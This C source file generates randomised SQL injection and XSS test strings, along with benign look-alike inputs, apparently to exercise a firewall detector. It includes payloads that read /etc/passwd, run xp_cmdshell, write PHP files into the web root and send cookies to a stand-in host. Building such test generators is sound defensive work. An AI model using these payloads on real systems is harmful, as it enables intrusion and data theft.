/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A grammar as data: each symbol has alternatives, in which {NAME} is another symbol and ~ white space that the
 * disguises may replace; {#} is a number.
 */
#include "waf_detect_values.h"

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { ANY_CASE = 1, COMMENTS = 2, BLANKS = 4 };

struct symbol {
    const char *name;
    const char *const *alternatives;
};

#define A(...) (const char *const[]){__VA_ARGS__, NULL}

static const struct symbol grammar[] = {
    /* ---- pieces of SQL ---- */
    {"hex", A("0x61646d696e", "0x31", "0x7e")},
    {"id", A("id", "user_id", "username", "password", "name", "email", "login", "pass", "title")},
    {"table", A("users", "members", "information_schema.tables", "admin", "accounts", "mysql.user", "sys.objects", "dual")},
    {"value", A("{#}", "-{#}", "admin", "test", "x", "", "0", "1", "product", "999999", "null")},
    {"number", A("{#}", "-{#}", "1", "0", "-1", "1.5")},
    {"or", A("or", "and", "or", "and", "||", "&&", "xor")},
    {"cmp", A("=", "=", "=", "<", ">", "<>", "!=", "~like~", ">=")},
    {"true", A("{#}{cmp}{#}", "1=1", "1=2", "2>1", "1~=~1", "(1=1)", "not~1=2", "{#}~between~0~and~{#}", "char(49)=char(49)", "0x31=0x31",
                 "ascii(substring((select~{id}~from~{table}~limit~1),{#},1))>{#}", "length(database())>{#}", "true=true", "{#}~in~({#},{#})")},
    {"qtrue", A("'a'='a", "''='", "'1'='1", "'x'~like~'x", "1=1{end}", "{#}={#}{end}", "{#}{end}", "{id}~is~not~null{end}", "{id}~like~'%a%'{end}",
                  "'{#}'='{#}'{end}", "not~1=2{end}", "exists(select~*~from~{table}){end}", "substr({id},1,1)='a", "'a'~in~('a','b'){end}")},
    {"dtrue", A("\"a\"=\"a", "\"\"=\"", "\"1\"=\"1", "1=1{end}", "{#}={#}{end}", "\"x\"~like~\"x")},
    {"end", A("--", "-- ", "-- -", "#", "/*", "-- {#}", "--+", ";--", ";-- -")},
    {"close", A("", "", ")", "))", "~")},
    {"column", A("{#}", "null", "{id}", "version()", "@@version", "user()", "database()", "'a'", "{hex}", "concat({id},0x3a,{id})",
                   "group_concat({id})", "load_file('/etc/passwd')", "table_name", "current_user", "char(58)")},
    {"columns", A("{column}", "{column},{column}", "{column},{column},{column}", "{#},{#},{#},{#}", "null,null,null", "null,{column},null,null")},
    {"from", A("~from~{table}", "~from~{table}~where~{id}={#}", "", "~from~{table}~limit~{#},1")},
    {"union", A("union~select~{columns}{from}", "union~all~select~{columns}{from}", "union~select~{columns}{from}{end}",
                  "union~all~select~{columns}{from}{end}", "union~distinct~select~{columns}{end}", "union~(select~{columns}{from})")},
    {"sqli-union", A("{number}~{union}", "{value}'{close}~{union}{end}", "{value}\"{close}~{union}{end}", "{number}{close}~{union}{end}",
                       "{value}'{close}~{union}~and~'1'='1", "'~{union}{end}")},
    {"sqli-boolean", A("{number}~{or}~{true}", "{value}'{close}~{or}~{qtrue}", "{value}\"{close}~{or}~{dtrue}", "{number})~{or}~(1=1",
                         "{number}~{or}~{true}{end}", "{value}'~{or}~'{#}'='{#}", "{value}'){close}~{or}~('a'='a", "{number}~{or}~{true}~{or}~{true}",
                         "{value}'~{or}~{id}='{value}", "\\'~or~1=1{end}")},
    {"sqli-comment", A("{value}'--", "{value}'~--~", "{value}'#", "{value}'/*", "{value}')--", "{value}'))#", "{value}\"--~-", "{value}';--",
                         "{value}\")~--", "{number}--", "{number}~--~-", "{value}'~--+")},
    {"statement", A("drop~table~{table}", "drop~database~test", "select~{columns}{from}", "insert~into~{table}~values~({#},'x')",
                      "insert~into~{table}~({id},{id})~values~(1,2)", "update~{table}~set~{id}='x'", "update~{table}~set~{id}={#}~where~{id}={#}",
                      "delete~from~{table}", "delete~from~{table}~where~{id}={#}", "exec~xp_cmdshell~'dir'", "exec~master..xp_cmdshell('dir')",
                      "shutdown", "truncate~table~{table}", "create~table~x(a~int)", "declare~@x~varchar(99);set~@x='a';exec(@x)",
                      "alter~table~{table}~add~x~int", "grant~all~on~{table}~to~public", "copy~{table}~from~'/etc/passwd'",
                      "waitfor~delay~'0:0:{#}'", "select~pg_sleep({#})", "if(1=1)~waitfor~delay~'0:0:5'")},
    {"sqli-stacked", A("{number};~{statement}", "{number};{statement}{end}", "{value}';~{statement}{end}", "{value}');{statement}{end}",
                         "{value}\";{statement}{end}", ";{statement}{end}", "{number});{statement}{end}", "{value}';{statement};--~")},
    {"delay", A("sleep({#})", "benchmark({#},md5(1))", "pg_sleep({#})", "(select~sleep({#}))", "if(1=1,sleep({#}),0)", "(select~*~from~(select(sleep({#})))a)",
                  "dbms_pipe.receive_message('a',{#})", "(select~{#}~from~pg_sleep({#}))")},
    {"sqli-time", A("{number}~{or}~{delay}", "{value}'~{or}~{delay}{end}", "{value}'{close}~{or}~{delay}~and~'1'='1", "{value}\"~{or}~{delay}{end}",
                      "{number}-{delay}", "{value}'+{delay}+'", "{value}'||{delay}||'", "{number};waitfor~delay~'0:0:{#}'--",
                      "{value}';waitfor~delay~'0:0:{#}'--", "{value}')~waitfor~delay~'0:0:{#}'--", "{number}~or~sleep({#})=0{end}", "{delay}",
                      "{number}~and~if(1=1,sleep({#}),0)", "{number}~and~{#}=(select~{#}~from~pg_sleep({#}))")},
    {"error", A("extractvalue({#},concat(0x7e,version()))", "updatexml(1,concat(0x7e,(select~user())),1)", "(select~1~from~(select~count(*),concat(version(),floor(rand(0)*2))x~from~{table}~group~by~x)a)",
                  "exp(~(select*from(select~user())x))", "convert(int,(select~@@version))", "cast((select~version())~as~int)", "{#}=convert(int,@@version)",
                  "utl_inaddr.get_host_name('x')", "ctxsys.drithsx.sn(1,user)", "1=cast(version()~as~int)", "gtid_subset(version(),1)")},
    {"sqli-error", A("{number}~and~{error}", "{value}'~and~{error}{end}", "{value}'~or~{error}~or~'", "{number}~or~{error}{end}", "{value}\"~and~{error}{end}",
                       "{value}'||{error}||'", "{error}", "{number}-{error}")},
    {"query", A("select~{column}{from}", "select~{column}~from~{table}~limit~1", "select~count(*)~from~{table}")},
    {"sqli-subquery", A("{number}~and~({query})={#}", "({query})", "{number}-({query})", "{value}'||({query})||'", "{value}'+({query})+'",
                          "{value}'~and~({query})>'a", "{number}~in~({query})", "if(1=1,{#},({query}))", "case~when~{#}={#}~then~{#}~else~({query})~end",
                          "{number}~and~exists({query})", "{value}'~and~(case~when~1=1~then~1~else~0~end)=1{end}", "1,({query})", "{number}*(case~when~(1=1)~then~1~else~0~end)")},
    {"sqli-clause", A("{number}~order~by~{#}", "{value}'~order~by~{#}{end}", "{number}~order~by~{#}{end}", "{value}'~group~by~{id}~having~1=1{end}",
                        "{value}'~having~1=1{end}", "{number}~having~1=1", "{value}'~group~by~{id},{id}{end}", "{number}~group~by~{id}~having~{#}={#}",
                        "{number}~procedure~analyse(extractvalue(1,concat(0x3a,version())),1)", "{number}~limit~{#}~into~outfile~'/tmp/x.php'",
                        "{value}'~into~outfile~'/var/www/x.php'{end}", "{value}')~order~by~{#}{end}", "{number}~limit~{#},{#}{end}")},
    {"sqli-operator", A("'='", "'-'", "'^'", "'||'", "'&'", "'+'", "'*'", "{value}'-'0", "{value}'='0", "'~like~'", "'~is~null{end}", "{value}'>'0", "{value}'<>'x",
                          "{value}'-0{end}", "{value}'~is~not~null{end}", "{value}'~between~'a'~and~'z", "{value}'=0{end}", "{value}'=''", "{value}'~rlike~'.*", "'=0{end}", "{value}'>0{end}",
                          "{value}'*1{end}", "{value}'/1{end}")},
    {"sqli-obfuscated", A("{sqli-union}", "{sqli-boolean}", "{sqli-time}", "{sqli-subquery}", "{sqli-error}")},

    /* ---- pieces of HTML ---- */
    {"js", A("alert(1)", "alert(document.cookie)", "prompt`1`", "confirm({#})", "eval(name)", "top['al'+'ert'](1)", "location='//x.y'", "fetch('//x/'+document.cookie)", "(alert)(1)")},
    {"event", A("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationend", "onpointerenter", "onkeydown", "onbegin", "onwheel", "onpageshow", "oninput", "onblur", "onscroll", "onstart", "ontouchstart", "onhashchange", "onsubmit", "onauxclick", "ondragend")},
    {"tag", A("img", "svg", "body", "video", "a", "div", "input", "details", "marquee", "p", "x", "audio", "button", "select", "textarea", "form", "b", "math", "custom-tag")},
    {"q", A("\"", "'", "")},
    {"attributes", A("", "", "~src=x", "~src=\"x\"", "~id='a'", "~autofocus", "~style=\"color:red\"", "~tabindex=1")},
    {"handler", A("{event}={js}", "{event}=\"{js}\"", "{event}='{jsplain}'", "{event}~=~{js}", "{event}~=\"{js}\"")},
    {"jsplain", A("alert(1)", "eval(name)", "prompt`1`", "confirm({#})")},
    {"xss-script", A("<script>{js}</script>", "<script~src=//x.y/z.js></script>", "<script/x>{js}</script>", "<script~type=\"text/javascript\">{js}</script>", "<script\n>{js}</script>",
                       "{word}<script>{js}</script>", "\"><script>{js}</script>", "'><script>{js}</script>", "</title><script>{js}</script>", "<<script>{js}//<</script>", "--><script>{js}</script>", "<script>{js}", "<script~")},
    {"xss-element", A("<iframe~src=javascript:{js}>", "<iframe~src=\"//x.y\"></iframe>", "<object~data=\"x.swf\"></object>", "<embed~src=//x.y/z.swf>", "<svg><script>{js}</script></svg>", "<base~href=//x.y/>",
                        "<meta~http-equiv=\"refresh\"~content=\"0;url=javascript:{js}\">", "<link~rel=stylesheet~href=//x.y/z.css>", "<style>@import'//x.y/z.css';</style>", "<frameset><frame~src=javascript:{js}>", "<applet~code=x>",
                        "<isindex~action=javascript:{js}~type=image>", "\"><iframe~src=//x.y>", "'><svg>", "<svg>{word}", "<iframe~srcdoc=\"&lt;script>{js}\">", "<noscript><p~title=\"</noscript><img~src=x~{handler}>\">")},
    {"xss-event", A("<{tag}{attributes}~{handler}>", "<{tag}/{handler}>", "<{tag}{attributes}~{handler}>{word}</{tag}>", "<{tag}{attributes}~{handler}", "<{tag}\n{handler}>", "<{tag}\t{handler}\t>", "{word}~<{tag}{attributes}~{handler}>",
                      "<svg/onload={js}>", "<img~src=x~onerror={js}>")},
    {"xss-attribute", A("\"~{handler}~x=\"", "'~{event}={jsplain}~x='", "\"{handler}", "x~{event}={js}", "\"~autofocus~{event}={js}~x=\"", "'~{event}='{jsplain}", "\"/{handler}~x=\"", "{word}\"~{event}=\"{js}", "\">{word}<img~src=x~{handler}>", "`~{event}={jsplain}~`", "{word}\"~{event}={js}~\"")},
    {"scheme", A("javascript:", "JaVaScRiPt:", "java&#115;cript:", "&#106;avascript:", "&#x6a;avascript:", "java\tscript:", "java&Tab;script:", "java&NewLine;script:", "javascript&colon;", "~javascript:", "\x01javascript:", "vbscript:", "&#0000106avascript:", "java&#x0A;script:")},
    {"xss-url", A("<a~href=\"{scheme}{js}\">{word}</a>", "<a~href='{scheme}{jsplain}'>", "<form~action=\"{scheme}{js}\"><input~type=submit>", "<button~formaction=\"{scheme}{js}\">", "<svg><a~xlink:href=\"{scheme}{js}\">", "<a~href=\"data:text/html,<script>{js}</script>\">",
                    "<a~href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "\"~href=\"{scheme}{js}", "<img~src=\"{scheme}{js}\">", "<table~background=\"{scheme}{js}\">", "<input~type=image~src=\"{scheme}{js}\">", "<math><x~xlink:href=\"{scheme}{js}\">")},
    {"xss-style", A("<div~style=\"background:url(javascript:{jsplain})\">", "<p~style=\"width:expression({jsplain})\">", "<x~style=\"-moz-binding:url(//x.y/z.xml#x)\">", "<div~style=\"behavior:url(x.htc)\">", "\"~style=\"width:expression({jsplain})", "<div~style=\"position:fixed;top:0;left:0;width:100%;height:100%\">")},
    {"xss-declaration", A("<!DOCTYPE~x~[<!ENTITY~y~SYSTEM~\"file:///etc/passwd\">]>", "<!ENTITY~x~\"y\">", "<!--[if~gte~IE~4]><script>{js}</script><![endif]-->", "<?import~namespace=t~implementation=#default{#}time2>", "<!doctype~html><script>{js}</script>")},

    /* ---- what is no attack ---- */
    {"word", A("hello", "water", "market", "review", "harbour", "ticket", "garden", "history", "engine", "letter", "winter", "school", "music", "coffee", "river", "order", "table", "window", "summer", "paper")},
    {"verb", A("select", "update", "insert", "delete", "drop", "order", "group", "read", "write", "open", "call", "join", "set", "show", "like", "limit", "create", "execute", "load")},
    {"noun", A("union", "table", "view", "index", "values", "user", "column", "database", "script", "object", "link", "style", "form", "case", "function", "representative", "committee", "phone", "members", "version")},
    {"first", A("Anna", "John", "Sinead", "Jean-Luc", "Mary", "D'Arcy", "Mohamed", "Zoe", "Bjorn", "J\xc3\xbcrgen", "Fran\xc3\xa7ois")},
    {"last", A("O'Brien", "O'Neil", "D'Angelo", "Smith", "Miller-Jones", "van 't Hoff", "McDonald", "Garc\xc3\xad" "a", "L'Hospital", "N'Dour", "Union", "Select", "Null", "Drop")},
    {"names", A("{first} {last}", "{last}, {first}", "{first} {last} & {first} {last}", "{first} {last} and {first} {last}", "{first} {last} or {first} {last}", "Mr. {last}", "{last}'s", "the {last}s' house", "{first} \"{word}\" {last}")},
    {"clause", A("the {word} is {word}", "we don't {verb} the {noun}", "it's a {word} - {word} {noun}", "I'd {verb} it", "{first} said \"{verb} the {noun}\"", "they {verb} 'n' {verb}", "you can't have {word} and {word}", "the {word}'s {noun} (or {noun}) was {word}",
                   "# of {noun}s = {#}", "{word} -- {word} -- {word}", "he's {#} years old; she isn't", "5'10\" and 6'2\" tall", "rock 'n' roll {word}", "the '90s and '80s", "it costs ${#} or {#}% more")},
    {"prose", A("{clause}.", "{clause}, and {clause}.", "{clause}; {clause}!", "{clause} -- {clause}.", "{clause}\n{clause}?", "\"{clause}\", {first} wrote.", "'{word}' or '{word}'?", "\"{word}\" and \"{word}\"", "{#} or {#}", "{word} & {word}; {word}", "the dogs' {word} and the cats' {noun}", "{clause} (see {#})")},
    {"prose-sql", A("{verb} a {noun} {noun} and {verb} by {noun}", "please {verb} the {noun} from the {noun} where it is", "{verb} {noun} where {noun} is {noun}", "union {verb} {noun}", "{verb} all {noun}s into the {noun}", "the union select committee met", "drop the {noun}; {verb} {noun}",
                      "{verb} {noun} from {noun}", "I want to {verb} the {noun} or {verb} the {noun}", "{noun} having {noun}s by order of {noun}", "group by {noun} or {noun}", "don't drop table {#} by the {word}", "create a table, insert values and delete from it", "is null or not null?", "1 order by phone", "select {#} of {#} and update {noun}")},
    {"variable", A("i", "n", "count", "name", "x", "y", "items", "result", "user", "value")},
    {"code-c", A("for (int {variable} = 0; {variable} < {#}; {variable}++) {variable} += {#};", "if ({variable} == NULL || {variable} < {#}) return -1;", "#include <stdio.h>", "printf(\"%s: %d\\n\", {variable}, {variable});", "char c = '\\''; /* {word} */", "while (*{variable} && *{variable} != '{variable}') {variable}++;",
                   "x = y ? {#} : {#}; // {word}", "int {variable} = {variable} & 0x{#} | {#};", "struct {word} *{variable} = malloc(sizeof *{variable});", "std::vector<std::string> {variable};", "Map<String, List<Object>> {variable} = new HashMap<>();", "if (a<b && c>d) f('x');", "const char *s = \"it's\"; /* don't */", "sleep({#});")},
    {"code-python", A("print('{word}', {variable})", "{variable} = '{word}' + {variable} + '{word}'  # {word}", "if {variable} == '{word}' or {variable} == '{word}':", "def f({variable}, *args): return {variable}['{word}']", "[{variable} for {variable} in range({#}) if {variable} > {#}]", "{variable} = \"{word}\" if {variable} and not {variable} else ''", "import os; os.path.join('{word}', '{word}')", "d = {'{word}': {#}, '{word}': '{word}'}", "sep = ',' # {word}", "assert f('{word}') == \"{word}\"", "time.sleep({#})", "lambda x: x['{word}'] or ''")},
    {"code-js", A("const {variable} = document.getElementById('{word}');", "console.log('{word}: ' + {variable} + '!');", "{variable} === '{word}' || {variable} === \"{word}\"", "arr.map(x => x.{variable}).filter(x => x > {#})", "var s = '<' + tag + '>';", "$('#{word}').on('click', function() {});", "if (a && b || c) { return 'x'; }", "`${{variable}} {word}`", "JSON.parse('{\"{word}\":{#}}')", "export default {name: '{word}', data() {}}", "el.onclick = () => {};", "let {variable} = {variable} ?? '';", "location.href = '/{word}?id=' + {variable};", "return x ? 'a' : 'b';")},
    {"code-sql", A("Use SELECT * FROM {word} to read a table.", "In SQL, UNION joins the rows of two queries.", "Write WHERE {variable} = {#} at the end; ORDER BY {variable} sorts.", "To delete a row: DELETE FROM {word} WHERE {variable} = {#};", "How do I use GROUP BY and HAVING together?", "INSERT INTO {word} VALUES ({#}) fails, why?", "The query SELECT {variable}, {variable} FROM {word} WHERE {variable} = '{word}' is slow", "the LIKE '%{word}%' operator is slow", "What does '-- ' mean in MySQL?", "my {word} has a column named 'order'")},
    {"rich", A("<p>{clause}</p>", "<b>{word}</b> and <i>{word}</i>", "<p style=\"text-align: center;\">{word}</p>", "<a href=\"https://example.com/{word}?a={#}&amp;b={#}\">{word}</a>", "<ul><li>{word}</li><li>{clause}</li></ul>", "<span style=\"color: #ff0000; font-size: 12px\">{word}</span>", "<img src=\"/{word}.png\" alt=\"{clause}\" width=\"{#}\">", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "<table><tr><td>{#}</td></tr></table>", "a < b and c > d", "<{first}@example.com>", "if x <y then z> {#}", "I <3 {word}", "<!-- {word} -->")},
    {"url", A("https://example.com/{word}/{word}--{noun}?id={#}&{word}={word}", "http://www.example.org/?q={word}+{word}#top", "/{word}/{noun}-{word}-{#}.html", "https://a.b/c?x='{word}'", "ftp://x.y/{word};type=a", "https://example.com/#/{word}/@{word}", "{word}={#}&{word}={word}&{noun}=%20{#}", "https://x.y/a?redirect=https%3A%2F%2Fz.w%2F&t={#}", "mailto:{word}@{word}.com?subject={word}")},
    {"json", A("{\"{word}\": {#}, \"{word}\": \"{word}\"}", "[{#}, {#}, \"{word}\", null, true]", "{\"a\": \"it's\", \"b\": {\"c\": [\"{clause}\"]}}", "{\"x\":\"\",\"y\":\"\"}", "[\"\",\"\",\"{word}\"]", "{\"{word}\":\"{word} and {word}\",\"or\":\"{#}\"}", "{\"q\": \"a \\\"{word}\\\" b\", \"n\": -{#}}", "{\"op\":\"=\",\"value\":{#}}", "{'{word}': '{word}'}")},
    {"base64", A("aGVsbG8gd29ybGQ{letters}{letters}==", "{letters}+{letters}/{letters}=", "eyJ{letters}.{letters}-{letters}_{letters}.{letters}", "{hexes}-{hexes}-{hexes}-{hexes}", "sha256:{hexes}{hexes}", "0x{hexes}")},
    {"letters", A("Zm9v", "Rk1x", "b3Jk", "c2Vs", "ZWN0", "dW5p", "b24g", "MTIz", "QUJD")},
    {"hexes", A("3f2a", "9e107d9d", "d41d8cd9", "00b204e9", "a8", "5e4", "1e9")},
    {"dates", A("2026-01-{#}", "2026-01-01 -- 2026-02-01", "12/31/2026 or 1/1/2027", "12:{#}:00", "2026-11-26T22:{#}:00+01:00", "Mon, {#}th of May '26", "9:00 - 17:30", "2020-01-01 -- start", "{#}-{#}-{#}", "1.2.2026, 14:00 Uhr")},
    {"addresses", A("{first} {last}, # {word} St. {#}4-b, Apt. {#}", "{#} O'Connell St; Dublin", "+1 (555) {#}-{#} ext. {#}", "555-1234 or 555-4567", "+49 30 {#} - {#}", "c/o {last} & Sons, # {word} Rd.", "P.O. Box {#}, {word} (near {noun})", "tel: 1-800-555-{#} -- call now", "{#}/{#} {word} road, unit {#}", "'The Elms', # {word} lane")},
    {"markdown", A("## {word} {word}", "- {clause}\n- {clause}", "* *{word}* and **{word}**", "| {word} | {noun} |\n|---|---|\n| {#} | {#} |", "> {clause}\n\n{clause}", "[{word}](https://example.com/{word}--{noun})", "`{code-c}`", "```\n{code-python}\n```", "# {word} #\n---\n{clause}", "1. {clause}\n2. {clause}", "![{word}](/{word}.png \"{word}'s\")", "- [x] {word}; - [ ] {noun}", "`{word}` or `{noun}`, 'x' = \"y\"")},
    {"math", A("a = {#} and b = {#}", "x < {#} or x > {#}", "f(x) = {#} * x^2 - {#}", "{#} + {#} = {#}", "if x = {#} then y = {#}", "(a + b)^2 = a^2 + 2ab + b^2", "{#} < x <= {#}", "x = ({#} or {#})", "y = sin(x) and z = cos({#})", "n! / (k! * (n - k)!)", "{#} % of {#}", "a || b && !c", "=SUM(A1:A{#})", "=IF(A1>{#},1,2)")},
    {"email", A("{word}.{noun}@example.com", "{first} <{word}@example.org>", "\"{first} {last}\" <{word}@x.de>", "o'{word}@example.com", "{word}+{noun}@x.y; {word}@x.y", "{word}_{noun}-{#}@mail.example")},
};

const struct value_class value_classes[] = {
    {VALUE_SQLI, "union", "sqli-union", ANY_CASE, 5},
    {VALUE_SQLI, "boolean", "sqli-boolean", ANY_CASE, 5},
    {VALUE_SQLI, "comment", "sqli-comment", 0, 5},
    {VALUE_SQLI, "stacked", "sqli-stacked", ANY_CASE, 5},
    {VALUE_SQLI, "time", "sqli-time", ANY_CASE, 5},
    {VALUE_SQLI, "error", "sqli-error", ANY_CASE, 5},
    {VALUE_SQLI, "subquery", "sqli-subquery", ANY_CASE, 5},
    {VALUE_SQLI, "clause", "sqli-clause", ANY_CASE, 5},
    {VALUE_SQLI, "operator", "sqli-operator", ANY_CASE, 5},
    {VALUE_SQLI, "comments as space", "sqli-obfuscated", ANY_CASE | COMMENTS, 5},
    {VALUE_SQLI, "odd white space", "sqli-obfuscated", ANY_CASE | BLANKS, 5},
    {VALUE_XSS, "script", "xss-script", ANY_CASE, 5},
    {VALUE_XSS, "element", "xss-element", ANY_CASE, 5},
    {VALUE_XSS, "event", "xss-event", ANY_CASE, 5},
    {VALUE_XSS, "attribute", "xss-attribute", ANY_CASE, 5},
    {VALUE_XSS, "url", "xss-url", 0, 5},
    {VALUE_XSS, "style", "xss-style", 0, 5},
    {VALUE_XSS, "declaration", "xss-declaration", 0, 5},
    {VALUE_BENIGN, "names", "names", 0, 0},
    {VALUE_BENIGN, "prose", "prose", 0, 0},
    {VALUE_BENIGN, "prose of SQL's words", "prose-sql", 0, 0},
    {VALUE_BENIGN, "code: C", "code-c", 0, 0},
    {VALUE_BENIGN, "code: Python", "code-python", 0, 0},
    {VALUE_BENIGN, "code: JavaScript", "code-js", 0, 0},
    {VALUE_BENIGN, "talk about SQL", "code-sql", 0, 0},
    {VALUE_BENIGN, "rich text", "rich", 0, 0},
    {VALUE_BENIGN, "URLs", "url", 0, 0},
    {VALUE_BENIGN, "JSON", "json", 0, 0},
    {VALUE_BENIGN, "base64, digests", "base64", 0, 0},
    {VALUE_BENIGN, "dates", "dates", 0, 0},
    {VALUE_BENIGN, "addresses, phones", "addresses", 0, 0},
    {VALUE_BENIGN, "markdown", "markdown", 0, 0},
    {VALUE_BENIGN, "math", "math", 0, 0},
    {VALUE_BENIGN, "email", "email", 0, 0},
};
const size_t value_class_count = sizeof value_classes / sizeof value_classes[0];

struct writer {
    char *text;
    size_t len;
};

static void put(struct writer *w, const char *text, size_t len)
{
    if (len > VALUE_LONGEST - w->len)
        len = VALUE_LONGEST - w->len;
    memcpy(w->text + w->len, text, len);
    w->len += len;
    w->text[w->len] = 0;
}

static const struct symbol *symbol_find(const char *name, size_t len)
{
    for (size_t i = 0; i < sizeof grammar / sizeof grammar[0]; i++)
        if (strlen(grammar[i].name) == len && memcmp(grammar[i].name, name, len) == 0)
            return &grammar[i];
    return NULL;
}

static const char *white_space(unsigned mutations, struct random *r)
{
    static const char *const comments[] = {"/**/", "/*x*/", " /**/ ", "/*!*/", "/*a*//*b*/", "/**/", "/* */"};
    static const char *const blanks[] = {"\t", "\n", "\r\n", "  ", "\f", "\v", "\xa0", " \t "};
    if (mutations & COMMENTS)
        return comments[random_below(r, sizeof comments / sizeof comments[0])];
    if (mutations & BLANKS)
        return blanks[random_below(r, sizeof blanks / sizeof blanks[0])];
    return " ";
}

static void write_template(struct writer *w, const char *template, unsigned mutations, struct random *r);

static void write_symbol(struct writer *w, const struct symbol *s, unsigned mutations, struct random *r)
{
    uint32_t count = 0;
    while (s->alternatives[count])
        count++;
    write_template(w, s->alternatives[random_below(r, count)], mutations, r);
}

static void write_template(struct writer *w, const char *template, unsigned mutations, struct random *r)
{
    for (const char *c = template; *c; c++) {
        const char *end = *c == '{' ? strchr(c, '}') : NULL;
        const struct symbol *s = end ? symbol_find(c + 1, (size_t)(end - c) - 1) : NULL;
        char digits[12];
        const char *blank;
        if (strncmp(c, "{#}", 3) == 0) {
            put(w, digits, (size_t)snprintf(digits, sizeof digits, "%u", random_below(r, random_chance(r, 50) ? 10 : 10000)));
            c += 2;
        } else if (s) {
            write_symbol(w, s, mutations, r);
            c = end;
        } else if (*c == '~') {
            blank = white_space(mutations, r);
            put(w, blank, strlen(blank));
        } else
            put(w, c, 1);
    }
}

/* Upper case, or any, for letters; what is in quotes or behind an equals sign stays as it is for the eye only. */
static void change_case(struct writer *w, struct random *r)
{
    uint32_t how = random_below(r, 4);
    for (size_t i = 0; i < w->len; i++) {
        bool hex = w->text[i] == 'x' && i > 0 && w->text[i - 1] == '0';
        if (!hex && (how == 1 || (how == 2 && random_chance(r, 50))))
            w->text[i] = (char)toupper((unsigned char)w->text[i]);
    }
}

size_t value_generate(const struct value_class *class, struct random *r, char ret[VALUE_LONGEST + 1])
{
    struct writer w = {.text = ret};
    ret[0] = 0;
    const struct symbol *s = symbol_find(class->symbol, strlen(class->symbol));
    if (!s)
        abort();
    write_symbol(&w, s, class->mutations, r);
    if (class->mutations & ANY_CASE)
        change_case(&w, r);
    return w.len;
}
